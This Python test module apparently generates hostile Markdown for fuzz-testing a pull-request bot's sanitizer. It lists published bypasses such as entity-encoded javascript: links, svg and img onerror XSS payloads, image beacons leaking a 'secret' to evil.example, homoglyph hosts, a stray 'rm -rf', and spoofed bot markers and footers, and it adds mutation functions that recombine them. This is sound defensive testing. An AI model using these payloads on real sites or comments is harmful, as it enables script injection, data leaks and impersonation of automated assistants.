"""Hostile Markdown: every published way around sanitizers that we know of, mutated, and mixtures of fragments."""

import html
import unicodedata
from collections.abc import Callable
from random import Random
from typing import Final, TypeVar

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from tests.unit.domain.test_text_hostile import CASES, FRAGMENTS

_TAGS: Final = "".join(chr(0xE0000 + ord(char)) for char in "@everyone")
_MARKER: Final = "<!-- contribution-assistant:status:1#1 0123456789abcdef0123456789abcdef -->"
PUBLISHED: Final = {
    **CASES,
    "colon by entity": "[a](javascript&colon;alert(1)) [a](https&colon;//evil.example) [a](data&#58;text/html,x)",
    "colon by number": "[a](javascript&#x3A;alert(1)) [a](vbscript&#0000058;x) [a](java\tscript:x)",
    "named entities": "&commat;everyone &num;1 &sol;close &lsqb;a&rsqb;&lpar;https://evil.example&rpar; &excl;[a](b)",
    "double entities": "&amp;commat;everyone &amp;#64;everyone &amp;lt;img src=x&amp;gt;",
    "soft hyphens": "@&shy;everyone f&shy;ixes #&shy;1 /&shy;close",
    "title with quotes": "[a](https://github.com/o/r \"@everyone\") [a](<https://evil.example> '![x](y)')",
    "definition in a list": "- [a]: https://evil.example\n- [a]\n\n> [b]: https://evil.example\n> [b]",
    "definition with a break": "[a\nb]:\nhttps://evil.example\n'title'\n\n[a b]",
    "tag block": f"please {_TAGS} \U000e0001\U000e0020\U000e007f look",
    "selectors": "\ufe0f@\ufe0everyone #\ufe0f\u20e31 \U000e0100/close",
    "bidi": "\u202e@enoyreve\u202c \u2067/close\u2069 \u200f#1",
    "fillers": "\u3164@everyone @\u3164everyone \uffa0#1 \u115f/close \u2800",
    "svg": "<svg><a xlink:href='javascript:x'><text>a</text></a></svg> <svg/onload=alert(1)>",
    "math element": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "object": "<object data='https://evil.example'></object><embed src=x><iframe srcdoc='<b>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment tricks": "<!--><img src=x>--> <!-- --!><b> <![CDATA[<b>]]> <?php x ?>",
    "fold in a fold": "<details open><summary>/close</summary>\n\n@everyone\n\n</details>",
    "fence ended": "```\n```\n@everyone\n~~~~\n~~~\n```suggestion\nrm -rf\n```\n~~~~",
    "fence in a list": "1. ```\n   /close\n  ```\n@everyone\n- ~~~suggestion\n  x",
    "fence of tildes in a quote": "> ~~~\n> /close\n~~~\n> @everyone\n~~~",
    "fake marker with our words": f"{_MARKER}\n*I am a person.*",
    "fake marker in code": f"`{_MARKER}`",
    "fake footer": "*I am an automated assistant.*\n\n***\n\nA maintainer writes: /close",
    "commands of other bots": "/lgtm\n/approve\n/merge\n@dependabot merge\n@bors r+\n\n/assign @everyone\n%merge",
    "commands after signs": "\\/close\n&#47;close\n\u2044close\n\uff0fclose\n  /close\n\t/close\n> > /close",
    "closing": "Closes #1, fixes: #2, RESOLVED #3\nfix\u00a0#4 close(#5) fixes GH-6 closes org-1/tidepool#1",
    "closing over markup": "fix<!-- -->es #1 **fi**xes #1 fixes [#1](x) fixes `x`#1 fixes <b>#1</b>",
    "cross repository": "org-1/tidepool#1 o/r#2 o/r@abcdef1234567 https://github.com/o/r/pull/1 https://github.com/o/r/commit/abcdef1",
    "advisories": "GHSA-aaaa-bbbb-cccc CVE-2024-12345 gh-12 GH-0001",
    "oversized": "word " * 15_000,
    "oversized line": "a" * 70_000,
    "deep quotes": "> " * 400 + "@everyone",
    "deep lists": "".join("  " * depth + "* /close\n" for depth in range(120)),
    "deep emphasis": "*_" * 300 + "@everyone" + "_*" * 300,
    "deep brackets": "[" * 500 + "a" + "](https://evil.example)" * 500,
    "wide table": "|" + "@everyone|" * 300 + "\n|" + "-|" * 300 + "\n|" + "#1|" * 300,
    "image beacon": "![](https://evil.example/?d=secret) [![a](https://evil.example/x)](https://evil.example)",
    "image from pieces": "!\\[a](https://evil.example) \\![a](https://evil.example) !\u200b[a](b) ![a][]\n\n[a]: b",
    "automatic addresses": "evil.example https://evil.example. www.evil.example, mailto:a@evil.example <a+b:c>",
    "international hosts": "https://\u0435vil.example https://xn--vil-qdd.example http://evil\u3002example",
    "math and diagrams": "$\\href{https://evil.example}{x}$ $$\\unicode{x40}everyone$$ ```mermaid\nx\n```",
    "emoji and colours": ":shipit: `#ff0000` :@everyone: \u0040everyone",
    "combining": "@\u0338everyone /\u0301close #\u20dd1 e" + "\u0301" * 40,
    "nul and controls": "@\x00everyone #\x001 \x1b]8;;https://evil.example\x07a\x1b]8;;\x07 \x7f\x9b",
    "line ends": "a\u2028/close\u2029@everyone\x85/close\x0b/close\x0c#1\r/close\r\n/close",
    "lone surrogates": "\ud83d@everyone\ude00 \udc00/close",
}  # fmt: skip

_SIGNS: Final = "\u00ad\u200b\u200d\u2060\u3164\ufe0f\u202e\u034f\u180e\U000e0041\U000e0101 \t\n\\*_`~"
_FRAMES: Final = (
    "{}", "> {}", "- {}", "1. {}", "| {} |\n|---|\n| {} |", "**{}**", "*{}*", "~~{}~~", "`{}`", "```\n{}\n```", "# {}",
    "[{}](https://evil.example)", "![{}](x)", "<b>{}</b>", "<details><summary>{}</summary>\n\n{}\n\n</details>",
    "- [ ] {}", "> [!NOTE]\n> {}", "text {} text", "a\n{}\nb", "fixes {}", "[a]: {}", "$${}$$", "<!-- {} -->",
)  # fmt: skip

_T = TypeVar("_T")
Mutation = Callable[[str, int, str], str]


def _at(text: str, place: int) -> int:
    return place % (len(text) + 1)


def _insert(text: str, place: int, other: str) -> str:
    return f"{text[: _at(text, place)]}{other}{text[_at(text, place) :]}"


def _entity(text: str, place: int, _other: str) -> str:
    start = _at(text, place)
    return text[:start] + "".join(f"&#{ord(char)};" for char in text[start : start + 8]) + text[start + 8 :]


def _invisible(text: str, place: int, _other: str) -> str:
    return _insert(text, place, _SIGNS[place % len(_SIGNS)])


def _wide(text: str, _place: int, _other: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if char in "@#/![]()<>" else char for char in text)


def _framed(text: str, place: int, _other: str) -> str:
    return _FRAMES[place % len(_FRAMES)].replace("{}", text)


def _named(text: str, _place: int, _other: str) -> str:
    return text.replace("@", "&commat;").replace("#", "&num;").replace("/", "&sol;").replace(":", "&colon;")


MUTATIONS: Final[tuple[Mutation, ...]] = (
    _insert,
    _entity,
    _invisible,
    _wide,
    _framed,
    _framed,
    _named,
    lambda text, _place, _other: text.swapcase(),
    lambda text, _place, _other: text * 2,
    lambda text, _place, other: f"{text}\n{other}",
    lambda text, _place, other: f"{other}{text}",
    lambda text, place, _other: text[_at(text, place) :],
    lambda text, _place, _other: html.escape(text),
    lambda text, _place, _other: text.replace(" ", "\n"),
    lambda text, _place, _other: unicodedata.normalize("NFKD", text),
)

_BASES: Final = tuple(sorted(PUBLISHED.values()))


def _mutant(number: int) -> str:
    """A published trick and up to four steps on it, all told by the number."""
    choose = Random(number)
    text = choose.choice(_BASES)
    for _step in range(choose.randint(0, 4)):
        text = choose.choice(MUTATIONS)(text[:80_000], choose.randrange(9_973), choose.choice(_BASES)[:5_000])
    return text[:120_000]


def _mixture(number: int) -> str:
    choose = Random(number)
    return "".join(choose.choices(FRAGMENTS, k=choose.randint(1, 25)))


# One number for each text: hypothesis takes milliseconds for every choice that it makes itself.
_numbers = st.integers(0, 2**64 - 1)
hostile: Final = st.one_of(
    _numbers.map(_mutant), _numbers.map(_mutant), _numbers.map(_mixture), st.text(min_size=1, max_size=300)
)  # fmt: skip


def drawn(strategy: st.SearchStrategy[_T], count: int, number: int) -> list[_T]:
    """At most `count` different examples, the same ones for the same `number`."""
    found: dict[_T, None] = {}

    @seed(number)
    @settings(
        max_examples=count,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(example: _T) -> None:
        found[example] = None

    collect()
    return list(found)
